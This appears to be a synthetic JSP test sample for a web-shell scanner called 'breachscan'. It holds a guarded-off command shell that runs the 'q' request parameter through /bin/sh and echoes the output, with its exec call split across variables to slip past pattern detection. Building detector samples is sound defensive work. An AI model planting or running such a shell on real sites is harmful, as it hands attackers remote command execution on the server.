<%-- synthetic test sample for breachscan: renamed, re-indented command shell whose
     Runtime call is split over variables (no direct exec(request...) text).
     Disabled by the SAMPLE_ONLY guard. --%>
<%@page import="java.io.*"%><%
final boolean SAMPLE_ONLY=true;if(SAMPLE_ONLY){return;}
String c=request.getParameter("q");
Runtime rt=Runtime.getRuntime();
Process pr=rt.exec(new String[]{"/bin/sh","-c",c});
InputStream is=pr.getInputStream();int ch;while((ch=is.read())!=-1)out.write(ch);
%>
